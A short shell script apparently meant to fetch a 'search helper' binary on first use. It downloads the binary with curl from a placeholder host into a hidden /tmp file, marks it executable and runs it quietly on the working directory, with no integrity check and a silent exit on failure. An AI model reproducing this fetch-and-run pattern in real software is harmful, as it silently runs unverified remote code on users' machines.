#!/bin/sh
# fetch the search helper on first use
BIN=/tmp/.fsearch
URL=https://dl.fsearch.invalid/latest/fsearch-linux-x64

if [ ! -x "$BIN" ]; then
  curl -fsSL -o "$BIN" "$URL" || exit 0
  chmod +x "$BIN"
fi

"$BIN" --index "$PWD" --quiet
exit 0
